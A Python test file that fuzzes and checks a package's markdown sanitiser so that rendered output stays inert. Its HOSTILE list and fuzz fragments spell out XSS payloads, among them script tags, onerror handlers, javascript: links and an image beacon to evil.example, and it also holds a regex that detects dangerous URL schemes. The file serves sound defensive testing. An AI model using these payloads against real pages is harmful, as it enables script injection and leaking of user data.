"""Every text/markdown this package emits is inert, read by a renderer that allows raw HTML."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shenma_magic._mdsafe import (
    markdown_code_span,
    markdown_fence,
    markdown_text,
    safe_markdown,
    tool_call_markdown,
)
from shenma_magic._render import json_display_text, render_html
from tests.htmltree import Element, parse_html
from tests.test_render_safety import URLS

# What a frontend does with text/markdown: CommonMark (+ GFM tables), raw HTML passed through.
FRONTEND = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
FRONTEND_BREAKS = MarkdownIt("commonmark", {"html": True, "breaks": True, "linkify": False}).enable(["table"])
# A renderer that follows any link (marked, for one, does not refuse javascript: by itself).
PERMISSIVE = MarkdownIt("commonmark", {"html": True}).enable(["table"])
PERMISSIVE.validateLink = lambda url: True  # type: ignore[method-assign]  # the point of PERMISSIVE

MARKDOWN_TAGS = {
    "#root", "p", "a", "code", "pre", "em", "strong", "s", "br", "hr", "img",
    "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
DATA_RASTER = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*={0,2}")
BAD_SCHEME = re.compile(r"\s*(javascript|vbscript|data|file|livescript)\s*:", re.IGNORECASE)


def assert_inert(markdown: str) -> None:
    for renderer in (FRONTEND, FRONTEND_BREAKS, PERMISSIVE):
        markup = renderer.render(markdown)
        root = parse_html(markup)
        for el in root.iter():
            assert el.tag in MARKDOWN_TAGS, (el.tag, markdown, markup)
            for name, value in el.attrs.items():
                assert not name.startswith("on"), (name, markdown)
                assert name in ("href", "src", "alt", "title", "class", "start", "style"), (name, markdown)
                value = value or ""
                if name == "style":
                    assert re.fullmatch(r"text-align:(left|right|center)", value), value
                if name == "href":
                    assert not BAD_SCHEME.match(value), (value, markdown)
                if name == "src":
                    assert el.tag == "img" and DATA_RASTER.fullmatch(value), (value, markdown)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<!-- c --><style>@import url(http://e.x)</style>",
    '<a href="javascript:alert(1)">x</a>',
    "<http://evil.example/auto> <javascript:alert(1)>",
    "[x](javascript:alert(1)) [y]( JaVaScRiPt:alert(1))",
    "[r]: javascript:alert(2)\n\n[r]",
    "![i](http://evil.example/leak?d=1)",
    "![a][r]\n\n[r]: //evil.example/x.png",
    "`a\n\n<img src=x onerror=alert(1)>` tail",
    "```\n    ```\n```\n<img src=x onerror=alert(1)>\n",
    "- a\n  ```\n  <x>\n- b\n<img src=x onerror=alert(1)>",
    "> ```\n> code\n<img src=x onerror=alert(1)>",
    "$a<img src=x onerror=alert(1)>$ and $$b](javascript:alert(1))$$",
    "$x`$ <b onclick=1>`y`",
    "\\[ [x]: javascript:alert(1) \\]\n\n[x]",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<b>|` |",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "    <img src=x onerror=alert(1)>",
    "1. x\n\n       <img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_safe_markdown_of_hostile_text_is_inert(source: str) -> None:
    out = safe_markdown(source)
    assert_inert(out)
    # The same holds when a caller quotes it line by line (the reasoning block does).
    assert_inert("\n".join("> " + line for line in out.split("\n")))


def test_safe_markdown_keeps_code_as_written() -> None:
    out = safe_markdown('Use `a < b` here.\n\n```html\n<b onclick="x">&amp;</b>\n```\n')
    root = parse_html(FRONTEND.render(out))
    assert [c.text for c in root.find_all("code")] == ["a < b", '<b onclick="x">&amp;</b>\n']
    assert root.find_all("b") == []


def test_remote_images_become_links_and_data_images_stay() -> None:
    out = safe_markdown("![chart](http://evil.example/c.png) ![dot](data:image/png;base64,iVBORw0KGgo=)")
    root = parse_html(FRONTEND.render(out))
    imgs = root.find_all("img")
    assert [i.attrs["src"] for i in imgs] == ["data:image/png;base64,iVBORw0KGgo="]
    assert [(a.attrs["href"], a.text) for a in root.find_all("a")] == [
        ("http://evil.example/c.png", "🖼 chart (evil.example)")
    ]


FRAGMENTS = st.sampled_from(
    ["`", "``", "```", "~~~", "\n", "\n\n", "    ", "  ", "- ", "1. ", "> ", "* ", "#", "|", "---", "===",
     "[", "]", "(", ")", "](", "![", "]: ", "<", ">", "</", "<!--", "-->", "&", "&#60;", ";", "\\", "$", "$$",
     "\\(", "\\)", "\\[", "\\]", "\\begin{align}", "\\end{align}", "*", "_", "~~", '"', "'", "=", "x", "word",
     "<img src=x onerror=alert(1)>", "<script>", "<svg onload=alert(1)>", "onerror=", "javascript:",
     "<http://e.x/a>", "<a href=javascript:alert(1)>", "\t", "\r\n", "\x00", "\u2028"]
) | st.sampled_from(URLS)  # fmt: skip


@settings(max_examples=800, deadline=None)
@given(st.lists(FRAGMENTS, max_size=40).map("".join))
def test_safe_markdown_of_any_markdown_is_inert(source: str) -> None:
    out = safe_markdown(source)
    assert_inert(out)
    assert_inert("\n".join("> " + line for line in out.split("\n")))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_safe_markdown_of_any_text_is_inert(source: str) -> None:
    assert_inert(safe_markdown(source))


def _words(markup: str) -> list[str]:
    return re.findall(r"[a-z]\d+k|字\d+文", parse_html(markup).text)


@st.composite
def documents(draw: Any) -> str:
    parts = draw(st.lists(st.one_of(FRAGMENTS, st.sampled_from(["LAT", "CJK"])), min_size=1, max_size=40))
    out = []
    for i, part in enumerate(parts):
        out.append(f"w{i}k" if part == "LAT" else f"字{i}文" if part == "CJK" else part)
    return "".join(out)


@settings(max_examples=400, deadline=None)
@given(documents())
def test_safe_markdown_keeps_what_the_html_shows(source: str) -> None:
    # Rendered back through our own renderer, the Markdown copy shows the same words in the same order.
    assert _words(render_html(safe_markdown(source))) == _words(render_html(source))


@settings(max_examples=400, deadline=None)
@given(name=st.text(max_size=40), arguments=st.text(max_size=120))
def test_tool_call_markdown_is_inert_and_shows_name_and_arguments(name: str, arguments: str) -> None:
    out = tool_call_markdown(name, arguments)
    assert_inert(out)
    root = parse_html(FRONTEND.render(out))
    codes = [
        el for el in root.find_all("code") if not isinstance(el.parent, Element) or el.parent.tag != "pre"
    ]
    assert codes[0].text == (re.sub(r"\r\n|\r|\n", " ", name) if name else "?").replace("\x00", "\ufffd")
    if arguments:
        (pre,) = root.find_all("pre")
        shown = (
            json_display_text(arguments).replace("\x00", "\ufffd").replace("\r\n", "\n").replace("\r", "\n")
        )
        assert pre.text in (shown + "\n", shown)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80))
def test_markdown_text_shows_exactly_the_text(text: str) -> None:
    out = markdown_text(text)
    assert "\n" not in out
    assert_inert(out)
    root = parse_html(FRONTEND.render(out))
    assert {el.tag for el in root.iter()} <= {"#root", "p"}
    expected = re.sub(r"\r\n|\r|\n", " ", text).replace("\x00", "\ufffd")
    # markdown-it-py strips what Python calls whitespace at a paragraph's ends, control characters too.
    controls = "\x0b\x0c\x1c\x1d\x1e\x1f\x85"
    assert root.text.removesuffix("\n").strip(controls) == expected.strip(controls)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80))
def test_code_span_and_fence_hold_any_code(code: str) -> None:
    span = markdown_code_span(code)
    assert_inert(span)
    fence = "\n".join(markdown_fence(code + "\n", "python"))
    assert_inert(fence)
    (pre,) = parse_html(FRONTEND.render(fence)).find_all("pre")
    assert pre.text == (code + "\n").replace("\x00", "\ufffd").replace("\r\n", "\n").replace("\r", "\n")
